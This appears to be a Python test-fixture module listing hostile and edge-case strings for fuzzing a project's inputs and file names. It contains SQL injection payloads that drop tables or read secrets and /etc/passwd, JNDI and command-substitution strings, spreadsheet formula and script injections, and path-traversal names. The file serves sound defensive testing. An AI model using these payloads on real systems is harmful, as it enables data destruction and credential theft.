"""Strings that have broken other software, to be put wherever a text can come in, and names that lead elsewhere."""

from __future__ import annotations

from sandbox.peloton.words import HOSTILE_TEXTS

MEGABYTE = 1_000_000

_SQL = (
    "'", '"', "''", "`", ";", "'; DROP TABLE peloton.rides; --", '"; DROP SCHEMA peloton CASCADE; --',
    "' OR 1=1 --", "') UNION SELECT * FROM duckdb_secrets() --", "x' AND read_text('/etc/passwd') --", "/*",
    "*/", "--\n1", "$$ $x$ $1", "?", ":name", "@name", "E'\\x27'", "getvariable('x')", "'||(SELECT 1)||'",
)  # fmt: skip
_FORMATS = (
    "{", "}", "{}", "{0.__class__.__mro__}", "%", "%n%n%n%n", "%(asctime)s", "%0999999999d",
    "${jndi:ldap://x.invalid}", "$(touch stolen)", "`touch stolen`", "{{config}}", "[bold]loud[/bold]",
    "[link=file:///]x[/link]", "[/]", "\\[",
)  # fmt: skip
_CONTROLS = (
    "\0", "a\0b", "\x01\x02\x03", "\a\b\v\f", "tab\tinside", "\n", "\r", "\r\n", "one\ntwo\n\n\nthree",
    "\x1b", "\x1b[2J\x1b[H", "\x1b]0;title\a", "\x1b]8;;file:///etc\x1b\\x\x1b]8;;\x1b\\", "\x9b31m",
    "\x9d0;title\x9c", "\x7f", "\x85", "\u2028", "\u2029", "2026-01-01 ERROR forged\n2026-01-01 INFO line",
    "\x04", "\x1a", "\x1c\x1d\x1e\x1f",
)  # fmt: skip
_UNICODE = (
    "\u202e", "\u202egnp.exe\u202c", "\u2066\u2069", "\u200b", "\u200d\u200c", "\ufeff", "\xad", "\u034f",
    "\U000e0041", "e\u0301", "é", "ﬁ", "Å\u030a", "ẞ", "İ", "ı", "ς", "аа", "１２３", "Ⅷ",
    "a\u0300\u0301\u0302\u0303\u0304\u0305", "\u0301", "🇩🇪", "👩🏿\u200d🚀",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "🧑\u200d🤝\u200d🧑", "مرحبا", "שלום",
    "漢字カナ", "한국어", "ไทย", "�", "\ufffe", "\uffff", "\U0010ffff", "\ue000", "\u3000", "\xa0", "\u2003",
    "\ud800", "lone \udfff", "\ud83d half", "\udc00\ud800", "\\ud800 spelt", "\\u0000 spelt",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "|calc", "＝1+1",
    '=HYPERLINK("x")',
)  # fmt: skip
_PAGES = (
    "<b>bold", "</script><script>alert(1)</script>", "<svg onload=alert(1)>", "javascript:alert(1)",
    '"onmouseover="x', "<!--", "]]>", "<?xml?>", "&lt;", "&#0;", "&quot;", "![x](http://x.invalid/x.png)",
    "[x](javascript:alert(1))", "```", "| a | b |", "# head", "<iframe src=//x.invalid>",
    "data:text/html,<b>",
)  # fmt: skip
_VALUES = (
    "", " ", "  two", "two  ", "null", "NULL", "nil", "undefined", "NaN", "Infinity", "-0", "1e309", "0x10",
    "1_000", "9223372036854775808", "true", "False", "[]", "{}", '{"a": [1]}', "1970-01-01",
    "2999-12-31T23:59:60Z", "00:00", "a,b;c\td", '"a","b"', "\\", "\\\\", "\\n", "\\N", "x" * MEGABYTE,
)  # fmt: skip
# What a file or folder name must never be able to say.
PATHS = (
    "..", "../", "../..", "../outside", "../../outside", "../../../../../../../../etc/passwd",
    "a/../../outside", "./../outside", "..//outside", ".../outside", "..\\outside", "..\\..\\outside",
    "a\\..\\..\\outside", "%2e%2e/outside", "%2e%2e%2foutside", "..%2foutside", "..%5coutside",
    "%252e%252e%252foutside", "..%c0%afoutside", "..∕outside", "..／outside", "．．/outside", "..\0/outside",
    "outside\0.json", "../outside\n", "/", "//", "/outside", "/etc/passwd", "//etc/passwd", "/var/outside",
    "~", "~/outside", "~root/outside", "$HOME/outside", "${PWD}/../outside", "C:\\outside", "C:outside",
    "c:/outside", "\\\\host\\share\\outside", "//host/share/outside", "\\\\?\\C:\\outside",
    "\\\\.\\PhysicalDrive0", "file:///outside", "file://host/outside", "http://x.invalid/outside",
    "s3://bucket/outside", "CON", "con", "NUL", "nul.json", "PRN", "AUX", "COM1", "com1.txt", "LPT1",
    "CLOCK$", "CONIN$", "/dev/null", "/dev/stdin", "/proc/self/environ", "/proc/self/fd/1", ".", "./",
    "a/b", "a/", "a\\b", "a:b", "a:stream", "name.", "name ", " name", "-rf", "--help", "*", "?", "[a-z]",
    "a|b", "a<b", "a>b", '"a"', "PEloton", "PELOTON", "Landing", "STATE", "ﬁle", "name\u202egnp", "x" * 300,
)  # fmt: skip
TEXTS = tuple(
    dict.fromkeys(
        (*HOSTILE_TEXTS, *_SQL, *_FORMATS, *_CONTROLS, *_UNICODE, *_FORMULAS, *_PAGES, *_VALUES, *PATHS)
    )
)


def as_stored(text: str) -> str:
    """What is kept of a text: all of it, but a lone surrogate, which is no text, becomes U+FFFD."""
    return text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace")


def short(texts: tuple[str, ...] = TEXTS) -> tuple[str, ...]:
    """Those that fit where a kernel or a library bounds the length."""
    return tuple(text for text in texts if len(text) < 10_000)
